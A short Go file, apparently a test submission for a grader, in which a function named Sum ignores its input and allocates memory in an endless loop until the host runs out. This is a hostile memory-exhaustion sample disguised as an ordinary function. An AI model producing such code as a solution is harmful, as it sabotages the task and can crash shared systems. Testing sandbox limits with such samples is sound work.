package solution

func Sum(n []int) int {
	var hog [][]byte
	for {
		part := make([]byte, 1<<24)
		for i := range part {
			part[i] = 1
		}
		hog = append(hog, part)
	}
}
